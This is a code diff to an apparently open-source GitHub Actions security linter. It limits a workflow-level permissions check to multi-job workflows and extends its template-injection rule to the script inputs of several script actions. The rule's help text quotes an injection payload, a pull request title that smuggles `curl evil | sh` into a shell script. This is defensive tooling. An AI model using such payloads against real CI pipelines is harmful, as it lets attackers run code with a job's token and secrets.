@@ -97,7 +97,8 @@ function broadGrant(doc: Workflow, path: Array<string | number>, permissions: un
   if (permissions === 'write-all' || permissions === 'read-all') {
     return [makeCheck(doc, path, false, `${subject} grants permissions: ${permissions}`, subject)];
   }
-  if (level === 'workflow' && isRecord(permissions)) {
+  // With one job, a workflow-level grant is that job's grant (zizmor agrees: pedantic only).
+  if (level === 'workflow' && isRecord(permissions) && jobsOf(doc).length > 1) {
     const writes = Object.entries(permissions).filter(([, access]) => access === 'write');
     return writes.map(([scope]) =>
       makeCheck(doc, [...path, scope], false, `${subject} grants ${scope}: write to every job; grant it in the job that needs it`, subject),
@@ -135,12 +136,23 @@ const excessivePermissions = wfRule({
   },
 });
 
-/** Where code is written from expressions: `run:` and `actions/github-script`'s `script:`. */
+// Action inputs that are code (zizmor's and CodeQL's injection sinks for the common script actions).
+const SCRIPT_INPUTS: Record<string, string> = {
+  'actions/github-script': 'script',
+  'amadevus/pwsh-script': 'script',
+  'azure/cli': 'inlineScript',
+  'azure/powershell': 'inlineScript',
+  'cardinalby/js-eval-action': 'expression',
+  'jannekem/run-python-script-action': 'script',
+  'mikefarah/yq': 'cmd',
+};
+
+/** Where code is written from expressions: `run:` and the script inputs of script actions. */
 function scriptsOf(step: WorkflowStep): Array<{ path: Array<string | number>; text: string }> {
   if (typeof step.step.run === 'string') return [{ path: [...step.path, 'run'], text: step.step.run }];
-  const script = withOf(step.step).script;
-  if (actionOf(step.step.uses) === 'actions/github-script' && typeof script === 'string') return [{ path: [...step.path, 'with', 'script'], text: script }];
-  return [];
+  const input = SCRIPT_INPUTS[actionOf(step.step.uses) ?? ''];
+  const script = input ? withOf(step.step)[input] : undefined;
+  return typeof script === 'string' ? [{ path: [...step.path, 'with', input], text: script }] : [];
 }
 
 function expansionChecks(doc: Workflow, what: string, judge: (context: string) => string | undefined): Check[] {
@@ -166,7 +178,7 @@ const templateInjection = wfRule({
   id: 'WF004',
   severity: 'error',
   title: 'No untrusted event data is expanded inside run: scripts',
-  help: '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code with the job\'s token and secrets. Event fields an outsider writes (titles, bodies, comments, branch names, commit messages, author names) and every github.* context not known to be fixed (zizmor\'s list) count as untrusted; actions/github-script\'s script: is a script too.',
+  help: '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code with the job\'s token and secrets. Event fields an outsider writes (titles, bodies, comments, branch names, commit messages, author names) and every github.* context not known to be fixed (zizmor\'s list) count as untrusted; the script inputs of script actions (actions/github-script script, azure/cli inlineScript, mikefarah/yq cmd, ...) are scripts too.',
   fix: 'Pass the value through the step\'s env: and use the variable, quoted: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`.',
   aligned: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'] },
   perWorkflow: (doc) => expansionChecks(doc, 'untrusted event data', untrustedEvent),
